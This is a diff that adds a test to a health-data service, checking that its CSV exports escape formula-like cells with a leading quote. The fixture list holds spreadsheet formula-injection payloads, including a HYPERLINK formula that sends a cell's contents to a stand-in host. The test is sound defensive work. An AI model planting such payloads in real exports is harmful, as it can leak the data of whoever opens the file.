@@ -774,6 +774,54 @@ def test_read_4_3_sleep_bucket_csv_has_one_hours_column_per_stage(store):
                 assert cell in ("", "0", "0.0"), (stage, cell)
 
 
+FORMULAS = ['=HYPERLINK("http://example.invalid/?"&A2,"open")', "+SUM(1,2)", "-2+3",
+            "@SUM(A1:A9)", "\tcmd", "\r=1"]
+
+
+def test_read_4_4_a_csv_cell_is_never_a_formula(start_service, data_dir):
+    """Every text cell that starts like a formula (OWASP: = + - @ tab CR) is written with
+    a leading ' in raw CSV, bucket CSV and `export --format csv`; numbers stay numbers."""
+    service = start_service()
+    points = []
+    for minute, formula in enumerate(FORMULAS):
+        points.append({"date": "2024-03-08 10:%02d:00 -0800" % minute, "qty": -5 - minute,
+                       "note": formula, "source": formula, formula: -0.25})
+    units = "@SUM(1)"
+    body = hf.dumps_hae(hf.envelope(metrics=[hf.metric("step_count", points, units)]))
+    assert Client(*service.address).ingest(body, headers={"automation-aggregation":
+                                                          "Minutes"})[0] == 200
+    wait_for(lambda: db_rows(data_dir, "SELECT parse_status FROM delivery")[0]["parse_status"]
+             == "parsed", what="the delivery is folded")
+    raw = read_csv(get(service.address, "/api/points", metric="step_count", format="csv"))
+    buckets = read_csv(get(service.address, "/api/points", metric="step_count", bucket="day",
+                           format="csv"))
+    exported = subprocess.run(
+        [sys.executable, str(ROOT / "healthlog.py"), "export", "--data", str(data_dir),
+         "--metric", "step_count", "--format", "csv"], capture_output=True, timeout=60)
+    assert exported.returncode == 0, exported.stderr
+    assert list(csv.reader(io.StringIO(exported.stdout.decode(), newline=""))) == raw
+
+    def neutral(text: str) -> str:
+        return "'" + text
+
+    header = raw[0]
+    assert header[:3] == ["start", "end", "units"]
+    assert [neutral(f) for f in FORMULAS] == [k for k in header if k.startswith("'")]
+    for row, point in zip(raw[1:], points):
+        cells = dict(zip(header, row))
+        assert cells["units"] == neutral(units)
+        assert cells["note"] == cells["source"] == neutral(point["note"])
+        assert cells["qty"] == str(point["qty"])  # a negative number stays a number
+        assert cells[neutral(point["note"])] == "-0.25"
+    for table in (raw, buckets):
+        for row in table:
+            for cell in row:
+                assert not cell.startswith(("=", "+", "@", "\t", "\r")), cell
+                assert not cell.startswith("-") or float(cell) < 0, cell
+    assert buckets[1][1] == neutral(units)
+    assert neutral(FORMULAS[0]) + "_sum" in buckets[0]
+
+
 # ---------------------------------------------------------------------------------------------
 # READ-5: /api/deliveries
 
